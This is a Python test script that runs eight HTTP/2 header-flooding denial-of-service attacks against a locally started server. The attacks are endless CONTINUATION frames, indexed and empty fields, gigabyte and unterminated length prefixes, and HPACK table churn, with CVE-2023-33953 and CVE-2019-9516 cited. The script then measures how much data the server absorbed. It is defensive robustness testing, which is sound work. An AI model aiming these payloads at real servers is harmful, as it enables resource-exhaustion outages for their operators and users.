#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Headers that never end (CVE-2023-33953): frames without a last one, names by number or empty (CVE-2019-9516), a string of a gigabyte, a length of
endless bytes, tables that change all the time."""

import sys

from http2 import CONTINUATION, HEADERS, call_head, frame, integer, literal
from siege import Siege, keep_pouring
from target import CREATE, MIB, TEST_CARD, running_server, wait_until_ready

SECONDS = 2
FRAME = 16384  # the most that a frame may have before the server allows more
FRAMES = 20_000  # 320 MB
INTO_TABLE = b"\x40"  # a literal that enters the table of both sides
FIRST_OF_TABLE = b"\xbe"  # by its number, 62


def unfinished(first, following):
    """A call whose headers are `first`, then `following` again and again; no frame says that it is the last."""
    def blobs(address):
        yield frame(HEADERS, 0, 1, call_head(CREATE, address) + first)
        for _ in range(FRAMES):
            yield frame(CONTINUATION, 0, 1, following)
    return lambda address, deadline: keep_pouring(address, deadline, blobs) * len(following) / MIB


ATTACKS = {
    "fields in frames without a last one": unfinished(b"", literal("x", "y" * 1000) * 16),
    # A byte each on the wire. 3,500 of them are within the 128 KiB of metadata that a frame may have; the others fill their frame.
    "fields by their number": unfinished(INTO_TABLE + literal("x", "y")[1:], FIRST_OF_TABLE * 3500),
    "frames full of numbers": unfinished(INTO_TABLE + literal("x", "y")[1:], FIRST_OF_TABLE * FRAME),
    "fields without name and value": unfinished(b"", literal("", "") * (FRAME // 3)),
    "fields that replace the table": unfinished(b"", (INTO_TABLE + literal("x", "y" * 1000)[1:]) * 16),
    "sizes of the table": unfinished(b"", (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * (FRAME // 4)),
    "a string of a gigabyte": unfinished(b"\0" + literal("x", "")[1:-1] + integer(1 << 30, 7, 0), b"y" * FRAME),
    "a length that has no end": unfinished(b"\0\x7f" + b"\xff" * 4, b"\x80" * FRAME),
}


def main():
    with running_server(config=TEST_CARD) as server:
        wait_until_ready(server)
        for what, attack in ATTACKS.items():
            Siege(server, what, attack, SECONDS).check("MiB poured", least=0.1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
